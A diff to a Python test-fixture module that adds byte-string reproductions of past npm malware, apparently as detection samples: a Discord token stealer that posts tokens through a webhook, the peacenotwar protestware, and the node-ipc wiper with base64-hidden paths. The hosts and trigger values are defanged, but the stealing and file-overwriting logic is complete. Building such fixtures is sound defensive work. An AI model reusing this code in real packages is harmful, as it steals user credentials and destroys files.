@@ -15,8 +15,8 @@ import hashlib
 
 from tests.servers.incidents import minified_bundle
 
-__all__ = ["flatmap_payload", "interceptor", "stealer", "worm_bundle",
-           "worm_dropper"]
+__all__ = ["flatmap_payload", "interceptor", "own_walk", "protest_writer", "stealer",
+           "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]
 
 
 def worm_bundle(size: int = 300_000) -> bytes:
@@ -92,3 +92,113 @@ def flatmap_payload(description: str = "A fixture stream helper") -> bytes:
             "a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;"
             "f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();"
             f"// {description}\n").encode()
+
+
+def webhook_stealer() -> bytes:
+    """an0n-chat-lib 0.1.0's `build/stealer.js` (October 2020), as its `main`: it reads the
+    Discord tokens from the browsers' and the Discord client's Local Storage under the home
+    folder and posts them through discord.js's `WebhookClient`, no other network in sight.
+    Loading it does nothing: the stealing is a method nobody calls here."""
+    return (b'"use strict";\n'
+            b'Object.defineProperty(exports, "__esModule", { value: true });\n'
+            b'const fs = require("fs");\n'
+            b'const path = require("path");\n'
+            b'const os = require("os");\n'
+            b'const discord_js_1 = require("discord.js");\n'
+            b"const stores = ['Roaming/Discord', 'Local/Google/Chrome/User Data/Default'];\n"
+            b"class AnonChatLib {\n"
+            b"    async run() {\n"
+            b"        const tokens = [];\n"
+            b"        for (const store of stores) {\n"
+            b"            const directory = path.join(os.homedir(), 'AppData', store, "
+            b"'Local Storage/leveldb');\n"
+            b"            for (const file of fs.readdirSync(directory)) {\n"
+            b"                const text = fs.readFileSync(path.join(directory, file), 'utf8');\n"
+            b"                tokens.push(...(text.match(/mfa\\.[\\w-]{84}/g) || []));\n"
+            b"            }\n"
+            b"        }\n"
+            b"        const client = new discord_js_1.WebhookClient('0', 'fixture');\n"
+            b"        await client.send(undefined, { embeds: [{ description: tokens.join('\\n') "
+            b"}] });\n"
+            b"    }\n"
+            b"}\n"
+            b"exports.AnonChatLib = AnonChatLib;\n")
+
+
+def protest_writer() -> bytes:
+    """peacenotwar 9.1.1's `index.js` (March 2022), an ES module that runs at load: a file
+    written into the home folder's Desktop and OneDrive folders, the path built from `os`'s
+    `homedir` at the module's head and handed to the function that writes it."""
+    return (b"import fs from 'fs';\n"
+            b"import { homedir } from 'os';\n\n"
+            b"const Desktops = `${homedir}/Desktop/`;\n"
+            b"const OneDrive = `${homedir}/OneDrive/`;\n\n"
+            b"function deliverAPeacefulMessage(path, message) {\n"
+            b"    try {\n"
+            b"        fs.writeFile(\n"
+            b"            path,\n"
+            b"            message,\n"
+            b"            function (err) {}\n"
+            b"        );\n"
+            b"    } catch (err) {}\n"
+            b"}\n\n"
+            b"const thinkaboutit = 'FIXTURE-MESSAGE.txt';\n"
+            b"deliverAPeacefulMessage(`${Desktops}${thinkaboutit}`, 'fixture');\n"
+            b"deliverAPeacefulMessage(`${OneDrive}${thinkaboutit}`, 'fixture');\n\n"
+            b"export default 'peace';\n")
+
+
+def wiper() -> bytes:
+    """node-ipc 10.1.1's `dao/ssl-geospec.js` (March 2022), required by its entry file: a
+    geolocation lookup, then every file under `./`, `../`, `../../` and `/` overwritten, each
+    path hidden in base64 (`Li4v` is `../`) and handed to a recursive walk. The host is a
+    `.test` name and the country compared is none."""
+    host = base64.b64encode(b"https://geo.payload.test/ipgeo").decode()
+    return (f"""import u from "path";
+import a from "fs";
+import o from "https";
+setTimeout(function () {{
+    const n = Buffer.from("{host}", "base64");
+    o.get(n.toString("utf8"), function (t) {{
+        t.on("data", function (t) {{
+            const n = Buffer.from("Li8=", "base64");
+            const o = Buffer.from("Li4v", "base64");
+            const r = Buffer.from("Li4vLi4v", "base64");
+            const f = Buffer.from("Lw==", "base64");
+            try {{
+                const s = JSON.parse(t.toString("utf8"));
+                if (s.country_name === "fixture-nowhere") {{
+                    h(n.toString("utf8"));
+                    h(o.toString("utf8"));
+                    h(r.toString("utf8"));
+                    h(f.toString("utf8"))
+                }}
+            }} catch (t) {{}}
+        }})
+    }})
+}}, Math.ceil(Math.random() * 1e3));
+async function h(n = "", o = "") {{
+    if (!a.existsSync(n)) {{ return }}
+    let r = [];
+    try {{ r = a.readdirSync(n) }} catch (t) {{}}
+    const c = Buffer.from("4p2k77iP", "base64");
+    for (var e = 0; e < r.length; e++) {{
+        const i = u.join(n, r[e]);
+        let t = null;
+        try {{ t = a.lstatSync(i) }} catch (t) {{ continue }}
+        if (t.isDirectory()) {{
+            h(i, o)
+        }} else if (i.indexOf(o) >= 0) {{
+            try {{ a.writeFile(i, c.toString("utf8"), function () {{}}) }} catch (t) {{}}
+        }}
+    }}
+}}
+""").encode()
+
+
+def own_walk() -> bytes:
+    """The clean twin of `wiper`: the same walk writing each file it lists, handed only the
+    package's own folder (a cache rebuilt in place)."""
+    return wiper().replace(b'h(n.toString("utf8"));', b"h(__dirname);").replace(
+        b'h(o.toString("utf8"));', b"").replace(b'h(r.toString("utf8"));', b"").replace(
+        b'h(f.toString("utf8"))', b"")
